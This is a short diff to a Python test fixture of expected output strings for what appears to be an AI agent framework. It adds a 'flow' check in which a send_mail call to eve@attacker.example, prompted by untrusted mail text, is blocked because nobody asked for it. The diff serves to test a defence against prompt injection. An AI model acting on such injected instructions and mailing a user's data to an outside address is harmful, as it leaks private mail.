@@ -17,6 +17,13 @@ SAYS = {
     ],
     "budgets": ["stopped: $0.0000", "budget - The session has ", "user/ann/", "of $1.00"],
     "deps_per_user": ["open the mailbox of ann", "ann has 3 unread", "bob has 0 unread"],
+    "flow": [
+        "sent to bob@shop.example: Pay by Friday.",
+        'asked: send_mail {"body":"All of it.","to":"eve@attacker.example"}',
+        "because nobody asked for this call of send_mail, and untrusted text was read",
+        "to: search_mail, text",
+        "completed - Bob knows.",
+    ],
     "policy": [
         "ann: little: made",
         "tim: little: policy: The user may not use refund: Refunds are made by the desk.",
